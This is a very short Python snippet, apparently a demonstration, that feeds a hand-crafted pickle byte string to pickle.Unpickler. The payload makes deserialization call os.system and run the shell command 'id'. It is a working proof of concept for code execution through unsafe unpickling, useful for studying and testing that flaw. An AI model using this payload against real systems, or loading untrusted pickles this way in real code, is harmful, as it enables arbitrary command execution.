# A pickle by the class behind the function.
import io
from pickle import Unpickler

Unpickler(io.BytesIO(b"cos\nsystem\n(S'id'\ntR.")).load()
